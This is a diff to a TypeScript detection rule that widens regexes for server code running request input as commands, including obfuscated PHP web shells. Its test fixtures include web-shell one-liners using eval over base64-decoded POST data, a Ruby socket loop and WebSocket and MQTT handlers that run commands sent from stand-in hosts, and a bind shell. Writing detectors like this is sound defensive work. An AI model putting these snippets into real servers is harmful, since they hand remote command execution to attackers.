@@ -5,7 +5,7 @@ import { CONNECTS, SHELLS } from '../../signals/calls.ts'
 import { isLocal } from '../../signals/hosts.ts'
 import { addressesIn, pairs, snippets } from '../../signals/snippets.ts'
 import { worded } from '../../wording.ts'
-import { regex } from '../../patterns/verbose.ts'
+import { regex, source } from '../../patterns/verbose.ts'
 
 const REACH = 320
 
@@ -18,15 +18,36 @@ const JOINED = regex`
     \binputstream\b|\bstream\b
   `
 
-/** What somebody asks of a server is run as a command. */
-const ON_REQUEST = worded(
-  regex`
-    \b(?:getoutput|check_output|popen|system|exec(?:sync)?|spawn(?:sync)?|shell_exec|passthru|
-      subprocess\.(?:run|call))\s?\(\s{0,3}
-    (?:(?:flask\.)?request\.(?:args|form|json|values|get_json|data|body|query|params)\b|
-      req\.(?:query|body|params)\b|\$_(?:get|post|request|cookie)\b|
-      new url\([^\n]{0,60}searchparams\.get)
-  `,
+/** What a request brings along, by the language of the server. */
+const OF_REQUEST = source`
+  (?:(?:flask\.)?request\.(?:args|form|json|values|get_json|data|body|query|params|headers|cookies|get|post)\b|
+    (?:req|ctx\.request|c\.req|event)\.(?:query|body|params|headers|get)\b|
+    \$_(?:get|post|request|cookie|files)\b|\$_server\[["']http_|php:\/\/input|
+    params\[|new url\([^\n]{0,60}searchparams\.get|request\.getparameter\(|
+    r\.(?:formvalue|postformvalue|url\.query\(\)\.get|header\.get)\()
+`
+
+/** What takes a disguise off on the way. */
+const DECODERS = source`
+  (?:(?:gzinflate|gzuncompress|gzdecode|base64_decode|str_rot13|strrev|hex2bin|urldecode|rawurldecode|openssl_decrypt|
+    atob|buffer\.from|base64\.(?:b64decode|decode64|decode)|bytes\.fromhex|codecs\.decode|decrypt\w{0,10})\s?\(\s{0,3}){1,5}
+`
+
+const RUN = source`
+  (?:\b(?:getoutput|check_output|popen|system|exec(?:sync|file)?|spawn(?:sync)?|shell_exec|passthru|proc_open|pcntl_exec|
+    eval|assert|create_function|new function|instance_eval|class_eval|runin\w{0,4}context|
+    subprocess\.(?:run|call|popen)|command)\s?\(\s{0,3}(?:["'](?:\/bin\/)?(?:ba)?sh["'], ?["']-c["'], ?)?|\beval )
+`
+
+/** What somebody asks of a server is run as a command or as code. */
+const ON_REQUEST = worded(new RegExp(`${RUN}${OF_REQUEST}`))
+
+/** The same in disguise: decoded first, or by a function whose name is put together. */
+const IN_DISGUISE = worded(
+  new RegExp(
+    `${RUN}${DECODERS}${OF_REQUEST}|(?<![\\w>])\\$\\w{1,20}\\s?\\(\\s{0,3}(?:${DECODERS})?\\$_(?:get|post|request|cookie)\\b|` +
+      `\\$_(?:post|get|request|cookie)\\b[^\\n]{0,40}\\n?[^\\n]{0,60}\\b(?:eval|assert)\\s?\\(\\s{0,3}${DECODERS}\\$\\w`,
+  ),
 )
 
 /** Servers and clients of one's own machine, and tests of them. */
@@ -47,6 +68,9 @@ export default defineRule({
   needs: [],
   examples: {
     fires: [
+      '```php\n<?php $a = $_POST["q"]; eval(base64_decode($a));\n```\n',
+      '```php\n<?php $f = strrev("metsys"); $f(gzinflate(base64_decode($_POST["q"])));\n```\n',
+      '```ruby\npost "/x" do\n  eval(params[:c])\nend\n```\n',
       "```ruby\ns = TCPSocket.new('tips.kit.example', 9001)\nwhile l = s.gets\n  s.puts `#{l}`\nend\n```\n",
       '```js\nimport WebSocket from "ws";\nimport { exec } from "node:child_process";\nconst ws = new WebSocket("wss://c.rowan-pike.net");\nws.on("message", (m) => exec(m.toString(), (e, out) => ws.send(out)));\n```\n',
       '```python\nc = mqtt.Client()\nc.on_message = lambda c, u, m: os.system(m.payload.decode())\nc.connect("c.rowan-pike.net")\n```\n',
@@ -55,6 +79,8 @@ export default defineRule({
       '```python\ns = socket.socket(); s.bind(("0.0.0.0", 5555)); s.listen(1)\nc, _ = s.accept()\nc.send(subprocess.getoutput(c.recv(4096).decode()).encode())\n```\n',
     ],
     quiet: [
+      '```php\n<?php echo base64_decode($_POST["note"]); $render($rows);\n```\n',
+      '```ruby\npost "/x" do\n  render(params[:c])\nend\n```\n',
       '```python\ns = socket.create_connection(("localhost", 5432), timeout=1)\ns.close()\n```\n',
       '```js\nconst ws = new WebSocket(url)\nws.on("message", (m) => render(JSON.parse(m)))\n```\n',
       '```python\nc = mqtt.Client()\nc.on_message = lambda c, u, m: print(m.payload.decode())\nc.connect("broker.rowan-pike.net")\nsubprocess.run(["make"])\n```\n',
@@ -63,8 +89,13 @@ export default defineRule({
     ],
   },
   *match(document: Document): Iterable<Hit> {
+    const { text: all } = document.reading
+    for (const { start, end } of candidates(document, document.observe(snippets), IN_DISGUISE)) {
+      const found = IN_DISGUISE.exec(all.slice(start, end))
+      if (found) yield { ...placeOf(start, found), firm: true }
+    }
     for (const { start, end } of candidates(document, document.observe(snippets), ON_REQUEST)) {
-      const found = ON_REQUEST.exec(document.reading.text.slice(start, end))
+      const found = ON_REQUEST.exec(all.slice(start, end))
       if (found) yield { ...placeOf(start, found), severity: 'high' }
     }
     for (const { text, start, end, snippet } of pairs(document, CONNECTS, SHELLS, REACH)) {
